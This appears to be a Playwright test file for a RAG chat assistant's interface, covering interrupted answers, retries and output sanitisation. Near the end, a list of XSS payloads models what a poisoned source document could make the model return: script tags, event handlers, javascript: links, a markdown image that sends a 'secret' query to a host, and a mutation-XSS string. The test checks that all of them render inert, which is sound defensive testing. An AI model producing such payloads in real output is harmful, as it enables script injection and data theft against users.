import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { ask, findAnswers, findField, findLog } from './chat.ts';
import { findCard } from './files.ts';
import { expect, testWithModel as test } from './fixtures.ts';
import { addSample, callApi, createAgent, openVisitor } from './people.ts';

const chatPath = (id: number) => `/public/assistant/${id}/chat`;
const longAnswer = Array.from({ length: 400 }, (_, index) => `word${index}`).join(' ');

async function send(page: Page, question: string): Promise<void> {
  await findField(page).fill(question);
  await page.keyboard.press('Enter');
}

test('an answer can be stopped, is stored as interrupted, and can be retried', async ({
  owner,
  browser,
  model,
}) => {
  const { id } = await createAgent(owner, 'Counter');
  const visitor = await openVisitor(browser, chatPath(id));
  model.order({ text: longAnswer, tokensPerSecond: 25 });
  await send(visitor, 'Tell me everything');
  await expect(findLog(visitor)).toContainText('word3');
  await visitor.getByRole('button', { name: 'Stop the answer' }).click();
  await expect(findLog(visitor).getByText('This answer was interrupted.')).toBeVisible();
  await expect(findField(visitor)).toBeFocused();
  await expect.poll(() => model.requests.at(-1)?.abandonedAt).not.toBeNull();

  await visitor.reload();
  await expect(findLog(visitor).getByText('This answer was interrupted.')).toBeVisible();
  await expect(findAnswers(visitor)).toContainText('word0 word1');
  model.order({ text: 'All of it, in short.' });
  await visitor.getByRole('button', { name: 'Ask again' }).click();
  await expect(findAnswers(visitor)).toContainText('All of it, in short.');
  await expect(findLog(visitor).getByText('This answer was interrupted.')).toBeHidden();
  await expect(findLog(visitor).getByText('Tell me everything')).toHaveCount(1);
  await visitor.context().close();
});

test('the thinking state is shown before the first text, and can be stopped', async ({
  owner,
  browser,
  model,
}) => {
  const { id } = await createAgent(owner, 'Counter');
  const visitor = await openVisitor(browser, chatPath(id));
  model.order({ hang: 'headers' });
  await send(visitor, 'Are you there?');
  const phrase = findLog(visitor).getByText(
    /^(Thinking|Looking|Finding|Checking|Putting|Reading|Making|Almost) /,
  );
  const first = await phrase.textContent();
  await expect(phrase, 'the phrase changes').not.toHaveText(first ?? '');
  await visitor.getByRole('button', { name: 'Stop the answer' }).click();
  await expect(visitor.getByText('Stopped before it could answer.')).toBeVisible();
  await visitor.context().close();
});

test('a visitor can continue after a model fails or its stream breaks', async ({ owner, browser, model }) => {
  const { id } = await createAgent(owner, 'Counter');
  const visitor = await openVisitor(browser, chatPath(id));
  model.order({ text: longAnswer, tokensPerSecond: 100, cutAfterTokens: 20 });
  await send(visitor, 'Tell me everything');
  await expect(visitor.getByText('Failed to get response from assistant')).toBeVisible();
  await expect(findLog(visitor)).toContainText('word5');
  model.order({ text: 'Here I am again.' });
  await visitor.getByRole('button', { name: 'Retry' }).click();
  await expect(findAnswers(visitor)).toContainText('Here I am again.');
  await expect(findLog(visitor).getByText('Tell me everything')).toHaveCount(1);
  await visitor.context().close();
});

test('a question sent again after a broken connection is answered once', async ({
  owner,
  browser,
  model,
}) => {
  const { id } = await createAgent(owner, 'Counter');
  const visitor = await openVisitor(browser, chatPath(id));
  model.order({ text: 'At six in the morning.' });
  const before = model.requests.length;
  // The answer is generated, but its response is lost.
  await visitor.route('**/public/chat', async (route) => {
    await route.fetch();
    await route.abort('connectionreset');
  });
  await send(visitor, 'When do you open?');
  await expect(visitor.getByText('Failed to get response from assistant')).toBeVisible();
  expect(model.requests.length - before).toBe(1);
  await visitor.unrouteAll();
  await visitor.getByRole('button', { name: 'Retry' }).click();
  await expect(findAnswers(visitor)).toContainText('At six in the morning.');
  expect(model.requests.length - before).toBe(1);
  await visitor.reload();
  await expect(findAnswers(visitor)).toHaveCount(1);
  await visitor.context().close();
});

/** What a document's author could make the model return. HOST records requests. */
const hostile = (host: string) => [
  `<script>alert(1);fetch("${host}/script")</script>`,
  `<img src="${host}/img" onerror="alert(2)"><svg onload=alert(3)>`,
  `![](${host}/markdown?q=secret) ![x][ref]\n\n[ref]: ${host}/reference`,
  '[click](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>) [vb](vbscript:msgbox)',
  `<iframe src="${host}/frame"></iframe><object data="${host}/object"></object><link rel=stylesheet href="${host}/css">`,
  `<style>@import "${host}/import"; body{background:url(${host}/bg)}</style><base href="${host}/">`,
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></table></mtext></math>',
  `[bank.example](${host}/phish) <${host}/auto> "><img src=x onerror=alert(7)>`,
  '<form action="javascript:alert(8)"><button>Go</button></form><details open ontoggle=alert(9)>',
];

/** Elements that the renderer must never produce in answers. */
const strangers =
  'script, img, svg:not(.lucide), iframe, object, embed, link, style, base, math, form, details, video, audio, input';

test('a hostile answer is inert wherever it is shown: no script, no image, no request to other hosts', async ({
  owner: page,
  browser,
  model,
}) => {
  const visits: string[] = [];
  const server = createServer((request, response) => {
    visits.push(request.url ?? '');
    response.end();
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const host = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const text = hostile(host).join('\n\n');
  const dialogs: string[] = [];
  const foreign: string[] = [];
  const watch = (watched: Page) => {
    const own = new URL(page.url()).origin;
    watched.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    watched.on('request', (request) => {
      if (/^https?:/.test(request.url()) && !request.url().startsWith(own)) foreign.push(request.url());
    });
  };
  const { assistantId } = await addSample(page);
  const visitor = await openVisitor(browser, chatPath(assistantId));
  watch(visitor);
  watch(page);
  // Unsupported sentences are shown as well, so that the whole text reaches the renderer, after a supported
  // sentence.
  await callApi(page, 'PUT', `/api/assistant/${assistantId}`, { unsupportedSentences: 'mark' });
  model.order({ text: `Delivery to Quezon City costs ₱99 [1].\n\n${text}`, isSplit: true });

  const { answer } = await ask(visitor, 'How much is delivery to Quezon City?');
  await expect(answer).toContainText('bank.example (127.0.0.1');
  await expect(findLog(visitor).locator(strangers)).toHaveCount(0);
  for (const link of await answer.getByRole('link').all()) {
    expect(await link.getAttribute('href')).toMatch(/^https?:/);
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  }
  await visitor.reload();
  await expect(findAnswers(visitor)).toContainText('bank.example (127.0.0.1');
  await expect(findLog(visitor).locator(strangers)).toHaveCount(0);

  await page.goto(`/assistants/${assistantId}/chat`);
  await ask(page, 'How much is delivery to Quezon City?');
  await expect(findLog(page).locator(strangers)).toHaveCount(0);

  // The test chat of a source leaves out unsupported sentences, so they are added to the response.
  await page.route('**/api/rag/ask', async (route) => {
    const response = await route.fetch();
    const body = await response.text();
    const { data } = /^event: done\ndata: (?<data>.*)$/m.exec(body)?.groups ?? {};
    const done = { ...JSON.parse(data ?? ''), answer: text };
    await route.fulfill({ response, body: `event: done\ndata: ${JSON.stringify(done)}\n\n` });
  });
  await page.goto('/sources');
  await findCard(page, 'Hiraya Bakeshop').getByRole('button', { name: 'Test Chat' }).click();
  const { answer: tested } = await ask(page, 'How much is delivery to Quezon City?');
  await expect(tested).toContainText('bank.example (127.0.0.1');
  await expect(findLog(page).locator(strangers)).toHaveCount(0);

  expect(dialogs).toEqual([]);
  expect(foreign).toEqual([]);
  expect(visits).toEqual([]);
  server.close();
  await visitor.context().close();
});
